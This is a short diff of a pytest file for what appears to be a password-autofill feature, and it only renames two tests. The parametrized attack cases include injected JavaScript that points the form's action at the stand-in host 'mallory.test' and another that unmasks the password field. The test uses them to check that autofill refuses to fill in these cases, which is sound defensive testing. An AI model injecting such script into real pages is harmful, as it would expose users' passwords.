@@ -32,7 +32,7 @@ def first_step(strips, typed=""):
 
 
 @pytest.mark.parametrize("typed", ["", "grace"])
-def test_a_password_is_filled_when_the_user_goes_on_to_its_step(strips, typed):
+def test_a_password_is_filled_when_the_user_opens_its_step(strips, typed):
     page = first_step(strips, typed)
     page.click("#next")
     page.wait_value("#password", "Double-grace")
@@ -46,7 +46,7 @@ def test_a_password_is_filled_when_the_user_goes_on_to_its_step(strips, typed):
     ("document.querySelector('form').action = 'https://mallory.test/'", True),
     ("document.querySelector('#password').type = 'text'", True), (REDRAW, True),
 ])
-def test_a_password_is_not_filled_later_if_the_step_is_not_the_users_or_not_clear(strips, attack, goes_on):
+def test_a_password_is_not_filled_later_unless_the_user_opens_the_step_and_its_field_is_visible(strips, attack, goes_on):
     page = first_step(strips)
     page.js(f"(() => {{ {attack} }})()")
     if goes_on:
